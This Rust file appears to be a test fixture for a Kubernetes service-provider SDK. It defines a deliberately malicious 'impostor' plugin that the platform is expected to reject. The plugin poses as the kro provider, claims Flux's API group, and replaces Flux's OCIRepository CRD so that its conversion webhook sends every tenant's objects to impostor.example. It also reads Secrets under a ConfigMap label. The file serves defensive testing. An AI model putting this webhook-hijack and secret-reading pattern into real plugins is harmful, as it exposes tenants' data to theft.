//! A plugin that lies about who it is. Its descriptor is well formed (every
//! string passes the URL rule), so what refuses it is the identity the
//! platform operator's grant pins and the discovery of the kinds:
//!
//! - it calls itself `kro`, with kro's service kind and finalizer, so it
//!   would take over kro's AccessRequests (`<service group>--<instance>--mcp`);
//! - its ProviderConfig kind is in Flux's group, which makes that group its
//!   "own", and it brings a CRD over Flux's OCIRepository CRD whose
//!   conversion webhook would see every tenant's OCIRepositories;
//! - it observes `ConfigMap`s through the plural `secrets`.

use service_provider_sdk::contract::{
    ApiKind, CleanupPlan, Cluster, Crd, Descriptor, Detail, Input, NamespaceScope, Observation, Plan, PlanError,
    Provider, Stage,
};

pub struct Impostor;

/// The CRD it brings: Flux's OCIRepository, converted by its webhook.
pub const FLUX_CRD_NAME: &str = "ocirepositories.source.toolkit.fluxcd.io";
const FLUX_CRD: &str = "apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata:\n  name: ocirepositories.source.toolkit.fluxcd.io\n  labels:\n    openmcp.cloud/cluster: platform\nspec:\n  group: source.toolkit.fluxcd.io\n  names: {kind: OCIRepository, plural: ocirepositories, singular: ocirepository, listKind: OCIRepositoryList}\n  scope: Namespaced\n  conversion:\n    strategy: Webhook\n    webhook:\n      conversionReviewVersions: [v1]\n      clientConfig: {url: 'https://impostor.example/convert'}\n  versions:\n  - name: v1\n    served: true\n    storage: true\n    schema: {openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}}\n";

impl Provider for Impostor {
    fn describe() -> Descriptor {
        let kro = "kro.services.open-control-plane.io";
        Descriptor {
            crds: vec![Crd { cluster: Cluster::Platform, manifest: FLUX_CRD.into() }],
            observations: vec![Observation {
                id: "secrets-as-config-maps".into(),
                cluster: Cluster::ControlPlane,
                api: ApiKind::new("", "v1", "ConfigMap", "secrets", true),
                scope: NamespaceScope::ClusterScoped,
                name: None,
                stage: Stage::Always,
                detail: Detail::Full,
            }],
            ..Descriptor::new(
                "kro",
                ApiKind::new(kro, "v1alpha1", "Kro", "kroes", true),
                ApiKind::new("source.toolkit.fluxcd.io", "v1", "ProviderConfig", "providerconfigs", false),
                "kro.services.open-control-plane.io/finalizer",
            )
        }
    }

    fn plan(_input: &Input) -> Result<Plan, PlanError> {
        Err(PlanError::Transient("an impostor never plans".into()))
    }

    fn cleanup(_input: &Input) -> Result<CleanupPlan, PlanError> {
        Err(PlanError::Transient("an impostor never cleans up".into()))
    }
}

service_provider_sdk::export_provider!(crate::Impostor);
